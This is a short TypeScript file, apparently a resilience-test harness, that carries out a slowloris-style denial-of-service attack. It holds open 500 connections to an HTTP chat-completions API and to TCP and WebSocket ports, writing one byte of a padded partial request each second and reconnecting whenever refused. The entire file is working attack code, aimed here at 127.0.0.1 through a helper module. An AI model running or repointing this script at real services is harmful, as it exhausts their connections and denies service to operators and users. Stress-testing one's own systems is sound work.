/** Sends one byte a second on 500 connections of the HTTP API and the TCP and WebSocket doors. */
import { setTimeout as wait } from 'node:timers/promises';
import { dial, say, target } from './sockets.ts';

const SOCKETS = 500;
const DRIP_MS = 1_000;
const TEXT = 'POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: '.padEnd(4_096, 'x');

const { api, tcp, websocket } = target();
const ports = [api, tcp, websocket];

async function drip(index: number): Promise<void> {
  for (;;) {
    try {
      const socket = await dial(ports[index % ports.length] ?? api);
      socket.resume();
      for (const byte of TEXT) {
        if (socket.destroyed) break;
        socket.write(byte);
        await wait(DRIP_MS);
      }
    } catch {
      // Refused: try again.
    }
    await wait(DRIP_MS);
  }
}

const drips = Array.from({ length: SOCKETS }, (_, index) => drip(index));
await wait(DRIP_MS);
say('attacking');
await Promise.all(drips);
